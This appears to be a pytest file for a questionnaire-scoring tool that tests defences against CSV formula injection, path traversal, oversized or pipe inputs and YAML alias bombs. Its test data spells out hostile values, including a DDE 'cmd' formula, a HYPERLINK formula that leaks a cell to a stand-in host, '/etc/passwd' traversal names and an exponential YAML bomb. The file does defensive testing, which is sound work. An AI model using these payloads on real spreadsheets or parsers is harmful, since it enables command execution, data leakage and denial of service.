"""Files that come in and files that go out: nothing without end, nothing that runs, nothing for others."""

import csv
import io
import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.commands.csv_files import harmless, replacing, write_row
from scales.strict_yaml import CardFaults, read_yaml
from tests.journeys.site import text_of

DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1",
    "\ufeff=1+1", "\0=1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u200b=1+1", "\u202e=1+1",
    '=HYPERLINK("http://example.org/"&A1,"look")', "-", "+", "@", "=", "-2+3+cmd|' /C calc'!A0", "\t", "\n=1",
]  # fmt: skip
FINE = [
    "",
    "0",
    "-1",
    "+1",
    "-1.5",
    "-1,5",
    "1e-3",
    ".5",
    "-.5",
    "n/a",
    "阿米娜",
    "a=b",
    "3-4",
    "x@example.org",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_a_spreadsheet_would_run_it_shows(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", FINE)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert harmless(cell) == cell


@given(st.lists(st.text(), min_size=1))
def test_no_cell_of_a_written_row_begins_a_formula(cells):
    file = io.StringIO()
    write_row(file, "\n")([cell.replace("\r", "").replace("\n", "") for cell in cells])

    for cell in next(csv.reader(io.StringIO(file.getvalue())), []):
        assert harmless(cell) == cell


def test_a_comment_in_a_file_that_is_scored_cannot_run(respite, home):
    (home / "in.csv").write_text("note,phq4_1,phq4_2,phq4_3,phq4_4\n=1+1,0,1,2,3\n", "utf-8")

    assert respite("scales", "score", "phq4", home / "in.csv", "--out", home / "out.csv").exit_code == 0

    (row,) = csv.DictReader((home / "out.csv").read_text("utf-8").splitlines())
    assert row["note"] == "'=1+1"


def test_what_is_written_is_for_nobody_else_to_read(home):
    before = os.umask(0)
    try:
        with replacing(home / "answers.csv") as file:
            file.write("person\n")
    finally:
        os.umask(before)

    assert (home / "answers.csv").stat().st_mode & 0o777 == 0o600


def test_a_file_of_words_that_is_too_large_is_refused_unread(respite, home):
    with (home / "words.yaml").open("wb") as file:
        file.truncate(10 << 30)

    result = respite("scales", "import", home / "words.yaml")

    assert (result.exit_code, "larger than 1 MB" in result.stderr) == (2, True)


def test_a_pipe_is_refused_and_not_waited_for(respite, home):
    os.mkfifo(home / "words.yaml")

    for how in ((), ("--fhir",)):
        result = respite("scales", "import", home / "words.yaml", *how)
        assert (result.exit_code, "it is no plain file" in result.stderr) == (2, True)


def test_answers_without_an_end_are_refused(respite, home):
    with (home / "answers.json").open("wb") as file:
        file.truncate(1 << 30)

    result = respite("scales", "import", home / "answers.json", "--fhir")

    assert (result.exit_code, "larger than 256 MB" in result.stderr) == (2, True)


@pytest.mark.parametrize("card", ["../../outside", "/etc/passwd", "a/b", "..", "mspss\\x"])
def test_words_cannot_be_kept_anywhere_but_on_the_shelf(respite, home, card):
    (home / "words.yaml").write_text(text_of(card, 1, []), "utf-8")

    result = respite("scales", "import", home / "words.yaml")

    assert result.exit_code == 2
    assert [path.name for path in home.rglob("*") if path.is_file()] == ["words.yaml"]


def test_a_text_that_unfolds_without_end_is_refused():
    bomb = "a: &a [x, x]\n" + "".join(
        f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )

    with pytest.raises(CardFaults, match="aliases"):
        read_yaml(bomb, "words.yaml", foreign=True)


def test_a_text_nested_without_end_is_refused():
    for text in ("[" * 100_000, "{a: " * 100_000, "- " * 100_000):
        with pytest.raises(CardFaults):
            read_yaml(text, "words.yaml", foreign=True)
